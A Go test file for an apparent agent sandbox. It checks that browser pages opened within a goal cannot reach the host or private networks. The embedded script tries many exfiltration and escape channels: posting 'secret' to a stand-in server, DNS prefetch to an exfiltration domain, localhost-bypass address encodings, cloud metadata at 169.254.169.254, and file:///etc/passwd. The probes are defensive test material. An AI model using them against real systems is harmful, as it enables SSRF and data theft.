package app_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	"goalpost/backend/domain/event"
	"goalpost/backend/goals/api"
	"goalpost/backend/goals/calls"
)

// attempts is a page that tries to reach this machine and other networks. AT is a server of the machine outside the
// goal. Each attempt ends, whether it succeeds or not.
const attempts = `<!doctype html><title>trying</title><h1 id=state>trying</h1><script>
const at = "AT", soon = (p) => Promise.race([p, new Promise((r) => setTimeout(r, 1500))]).catch(() => {});
const loaded = (el, src) => new Promise((r) => { el.onload = el.onerror = r; el.src = src; document.body.append(el); });
(async () => {
  await soon(fetch("http://" + at + "/fetch", { mode: "no-cors" }));
  await soon(fetch("http://" + at + "/post", { mode: "no-cors", method: "POST", body: "secret" }));
  await soon(loaded(new Image(), "http://" + at + "/image?secret"));
  await soon(loaded(document.createElement("script"), "http://" + at + "/script"));
  await soon(loaded(document.createElement("iframe"), "http://" + at + "/frame"));
  await soon(new Promise((r) => { const w = new WebSocket("ws://" + at + "/socket"); w.onopen = w.onerror = r; }));
  for (const host of ["127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "any.localhost", "0.0.0.0"])
    await soon(new Promise((r) => {
      const w = new WebSocket("ws://" + host + ":OWN/own " + host); w.onopen = w.onerror = r;
    }));
  await soon(new Promise((r) => { const e = new EventSource("http://" + at + "/events"); e.onopen = e.onerror = r; }));
  navigator.sendBeacon("http://" + at + "/beacon", "secret");
  const form = document.createElement("form"), there = document.createElement("iframe");
  there.name = "there"; document.body.append(there);
  form.method = "POST"; form.action = "http://" + at + "/form"; form.target = "there";
  document.body.append(form); form.submit();
  const style = document.createElement("style");
  style.textContent = "@import url(http://" + at + "/style)"; document.head.append(style);
  for (const rel of ["preload", "prefetch"]) {
    const l = document.createElement("link");
    l.rel = rel; l.as = "image"; l.href = "http://" + at + "/" + rel; document.head.append(l);
  }
  const worker = new Worker(URL.createObjectURL(new Blob([
    "fetch('http://" + at + "/worker', {mode: 'no-cors'}).finally(() => postMessage(1))"])));
  await soon(new Promise((r) => { worker.onmessage = r; }));
  for (const [name, host] of [
    ["localhost", "localhost"], ["short", "127.1"], ["hexadecimal", "0x7f000001"],
    ["mapped", "[::ffff:127.0.0.1]"], ["alias", "any.localhost"],
  ])
    await soon(fetch("http://" + host + ":" + at.split(":")[1] + "/" + name, { mode: "no-cors" }));
  for (const host of ["10.0.0.1", "192.168.0.1", "169.254.169.254", "172.16.0.1", "[fe80::1]"])
    soon(fetch("http://" + host + "/latest", { mode: "no-cors" }));
  const pre = document.createElement("link");
  pre.rel = "preconnect"; pre.href = "http://PRE"; document.head.append(pre);
  const dns = document.createElement("link");
  dns.rel = "dns-prefetch"; dns.href = "//secret.exfiltrated.example"; document.head.append(dns);
  navigator.serviceWorker.register("/sw.js").catch(() => {});
  await soon(new Promise((r) => { navigator.serviceWorker.onmessage = r; }));
  const rtc = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "STUN" }] });
  rtc.createDataChannel("x"); await rtc.setLocalDescription(await rtc.createOffer());
  await soon(new Promise((r) => {
    rtc.onicegatheringstatechange = () => rtc.iceGatheringState === "complete" && r();
  }));
  await soon(new Promise((r) => setTimeout(r, 500)));
  document.getElementById("state").textContent = document.title = "all tried";
})();
</script>`

// serviceWorker is a worker that outlives its page. It fetches from AT when it is installed.
const serviceWorker = `self.addEventListener("install", (e) => {
  self.skipWaiting();
  e.waitUntil(fetch("http://AT/serviceworker", {mode: "no-cors"}).catch(() => {}));
});
self.addEventListener("activate", (e) => e.waitUntil(
  self.clients.claim()
    .then(() => self.clients.matchAll())
    .then((l) => l.forEach((c) => c.postMessage(1)))));`

// machine records what reaches a server and a STUN port of this machine.
type machine struct {
	mu   sync.Mutex
	seen []string
	http *httptest.Server
	own  *httptest.Server // one of this program's own servers
	pre  net.Listener     // accepts connections that send no request
	stun net.PacketConn
}

func (m *machine) hear(what string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if !slices.Contains(m.seen, what) {
		m.seen = append(m.seen, what)
	}
}

func (m *machine) requests() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	list := slices.Sorted(slices.Values(m.seen))
	m.seen = nil
	return list
}

func listening(t *testing.T) *machine {
	m := &machine{}
	var page string
	m.http = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/page":
			w.Header().Set("Content-Type", "text/html")
			_, _ = fmt.Fprint(w, page)
			return
		case "/sw.js":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = fmt.Fprint(w, m.fill(serviceWorker))
			return
		}
		m.hear(strings.Trim(r.URL.Path, "/"))
	}))
	t.Cleanup(m.http.Close)
	m.own = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		m.hear(strings.Trim(r.URL.Path, "/"))
	}))
	t.Cleanup(m.own.Close)
	var err error
	m.stun, err = net.ListenPacket("udp", "127.0.0.1:0")
	must(t, err)
	done := make(chan struct{})
	go func() {
		defer close(done)
		b := make([]byte, 1500)
		for {
			if _, _, err := m.stun.ReadFrom(b); err != nil {
				return
			}
			m.hear("webrtc")
		}
	}()
	t.Cleanup(func() { _ = m.stun.Close(); <-done })
	m.pre, err = net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		for {
			c, err := m.pre.Accept()
			if err != nil {
				return
			}
			m.hear("preconnect")
			_ = c.Close()
		}
	}()
	t.Cleanup(func() { _ = m.pre.Close(); <-ended })
	page = m.fill(attempts)
	return m
}

func (m *machine) fill(text string) string {
	_, own, _ := net.SplitHostPort(m.own.Listener.Addr().String())
	return strings.NewReplacer("OWN", own, "AT", strings.TrimPrefix(m.http.URL, "http://"), "STUN",
		m.stun.LocalAddr().String(), "PRE", m.pre.Addr().String()).Replace(text)
}

// TestPages_OfAGoal_ReachNothingOutside: all attempts of a goal's page fail. On a page of the user they all succeed,
// except WebSockets to a port of this program.
func TestPages_OfAGoal_ReachNothingOutside(t *testing.T) {
	t.Parallel()
	self, err := os.Executable()
	must(t, err)
	p := start(t, t.TempDir())
	m := listening(t)
	p.app.RegisterOwnPort(m.own.Listener.Addr().(*net.TCPAddr).Port)
	in := api.ArgsOpenBrowser{URL: m.http.URL + "/page", Width: 800, Height: 600}
	_, err = area[*calls.BrowserAPI](t, p.app).Open(in)
	must(t, err)
	p.await("all that the user's page tries", func(e event.Event) bool {
		b, ok := e.Body.(*event.Pane)
		return ok && b.Pane.Title == "all tried"
	})
	works := m.requests()
	// UDP is blocked for every page of Chromium, so it does not work here either.
	if len(works) < 18 || !slices.Contains(works, "socket") || slices.Contains(works, "webrtc") {
		t.Fatalf("only these attempts are real: %v", works)
	}

	if i := slices.IndexFunc(works, func(s string) bool { return strings.HasPrefix(s, "own ") }); i >= 0 {
		t.Errorf("a page of the user reached a port of this program as %s", works[i])
	}

	steps := p.did(
		args("write_file", map[string]any{"path": "index.html", "content": m.fill(attempts)}),
		args("write_file", map[string]any{"path": "sw.js", "content": m.fill(serviceWorker)}),
		args("terminal_open", map[string]any{}),
		args("terminal_run", map[string]any{"pane": "t1", "command": served(self), "wait_seconds": 100}),
		args("browser_open", map[string]any{"url": "http://127.0.0.1:8080/"}),
		args("browser_wait", map[string]any{"pane": "b2", "text": "all tried", "seconds": 100}),
		args("browser_open", map[string]any{"pane": "b2", "url": "file:///etc/passwd"}),
		args("browser_open", map[string]any{"pane": "b2", "url": "chrome://version"}),
		args("browser_open", map[string]any{
			"pane": "b2",
			"url":  "http" + strings.TrimPrefix(p.app.StreamConnection().URL, "ws"),
		}),
	)
	for i, s := range steps {
		if good := i < 6; (s.Outcome == event.OK) != good {
			t.Errorf("%s: %s %s", s.Tool, s.Outcome, s.Result)
		}
	}
	escaped := m.requests()
	t.Logf("%d attempts of a page, %d escaped", len(works)+4, len(escaped))
	if len(escaped) > 0 {
		t.Errorf("a page of a goal reached this machine by %v", escaped)
	}
	// The proxy refuses and logs requests to other addresses.
	list, err := p.goal.List(calls.ListInput{})
	must(t, err)
	seen, err := p.goal.Network(list.Goals[0].ID)
	must(t, err)
	for _, host := range []string{"10.0.0.1", "192.168.0.1", "169.254.169.254", "172.16.0.1", "fe80::1"} {
		if !slices.ContainsFunc(seen.Hosts, func(h api.NetworkHost) bool {
			return strings.Contains(h.Host, host) && !h.Allowed
		}) {
			t.Errorf("%s is not among what was refused: %+v", host, seen.Hosts)
		}
	}
}
